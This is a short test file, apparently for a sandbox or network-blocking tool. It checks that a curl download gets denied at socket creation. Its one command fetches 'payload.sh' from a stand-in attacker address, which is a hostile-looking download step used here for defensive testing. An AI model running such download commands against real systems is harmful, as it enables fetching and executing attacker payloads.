# attack: downloads with curl
# expect: outcome=denied
# expect-denial: socket(AF_INET
# needs: curl
exec curl --silent --show-error --max-time 3 http://192.0.2.1/payload.sh
